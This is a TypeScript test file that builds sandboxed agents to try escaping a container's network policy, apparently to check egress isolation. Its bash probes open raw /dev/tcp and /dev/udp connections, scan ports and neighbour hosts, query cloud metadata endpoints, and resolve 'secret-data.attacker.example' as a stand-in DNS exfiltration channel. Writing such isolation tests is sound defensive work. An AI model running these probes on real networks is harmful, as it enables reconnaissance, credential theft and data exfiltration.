/** The agents of the attack tests: one shell script an attempt. Apart so that what is tried can be read in one place. */
import { testAgent } from './test-worker.ts';

/** Runs bash in a sandbox; `SECONDS`-like timing is the caller's. */
export const shell = (name: string, script: string) =>
  testAgent(name, '', {
    revisions: [
      { name: `${name}-00001`, image: 'test/root:1', command: ['/bin/bash', '-c', script], env: [] },
    ],
    servingRevision: `${name}-00001`,
  });

/** Prints `name: open` or `name: shut in N ms`. */
export const tryTcp = (host: string, port: number): string =>
  `s=$(date +%s%N 2>/dev/null || echo 0); if (exec 3<>/dev/tcp/${host}/${port}; echo hello >&3 && head -c1 <&3 | grep -q .) 2>/dev/null; then echo "${host}:${port} open"; else echo "${host}:${port} shut"; fi;`;
const tryUdp = (host: string, port: number): string =>
  `if (exec 3<>/dev/udp/${host}/${port}; echo x >&3; sleep 0.2; echo x >&3) 2>/dev/null; then echo "${host}:${port} open"; else echo "${host}:${port} shut"; fi;`;

/** `hostPort`: a port of this machine that listens on every address. */
export function attackAgents(hostPort: number): ReturnType<typeof testAgent>[] {
  return [
    shell(
      'named',
      'unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; exec 3<>/dev/tcp/api.example.com/80; printf "GET / HTTP/1.1\\r\\n\\r\\n" >&3; cat <&3',
    ),
    shell('wrong-port', tryTcp('api.example.com', 8080)),
    shell('literal', tryTcp('93.184.216.34', 443) + tryTcp('93.184.216.34', 80)),
    shell(
      'literal-open',
      'exec 3<>/dev/tcp/203.0.113.9/80; printf "GET / HTTP/1.1\\r\\n\\r\\n" >&3; cat <&3',
    ),
    shell('quic', tryUdp('93.184.216.34', 443)),
    shell(
      'ports',
      tryTcp('93.184.216.34', 22) +
        tryTcp('93.184.216.34', 25) +
        tryTcp('1.1.1.1', 853) +
        tryTcp('1.1.1.1', 53) +
        tryTcp('1.1.1.1', 443),
    ),
    shell(
      'ipv6',
      tryTcp('2001:db8::1', 443) +
        tryUdp('2001:db8::1', 53) +
        tryTcp('::ffff:93.184.216.34', 443) +
        tryTcp('64:ff9b::5db8:d822', 443),
    ),
    shell(
      'denied-name',
      'getent ahosts secret-data.attacker.example || echo refused; getent ahosts secret-data.attacker.example || echo refused',
    ),
    shell(
      'allowed-name',
      'getent ahostsv4 api.example.com; getent ahostsv6 api.example.com | grep -v ::ffff || echo no v6',
    ),
    shell(
      'metadata',
      tryTcp('169.254.169.254', 8080) +
        tryTcp('169.254.170.2', 80) +
        tryTcp('100.100.100.200', 80) +
        tryTcp('168.63.129.16', 80) +
        'curl -s -m 2 -o /dev/null -w "%{http_code}\\n" http://169.254.169.254/latest/meta-data/',
    ),
    shell(
      'neighbours',
      Array.from(
        { length: 6 },
        (_, index) => tryTcp(`100.64.0.${index * 4 + 1}`, hostPort) + tryTcp(`100.64.0.${index * 4 + 2}`, 80),
      ).join(''),
    ),
    shell(
      'host',
      tryTcp('127.0.0.1', hostPort) +
        tryTcp('0.0.0.0', hostPort) +
        tryTcp('192.0.2.2', hostPort) +
        tryTcp('198.51.100.7', 4222),
    ),
    shell('synthetic-guess', tryTcp('198.18.1.0', 80)),
    shell('raw', 'exec 2>&1; grep -E "^Cap(Eff|Bnd|Amb)" /proc/self/status; ls /sys/firmware; id -u'),
    shell('wait-and-connect', 'read -r _; ' + tryTcp('api.example.com', 80)),
    shell(
      'many-names',
      'for i in $(seq 300); do getent ahosts n$i.attacker.example >/dev/null; done; echo done',
    ),
    testAgent(
      'no-gateway',
      'curl -sS -m 5 http://api.example.com/ 2>&1; curl -sS -m 5 http://203.0.113.9/ 2>&1',
      { gateways: [] },
    ),
  ];
}
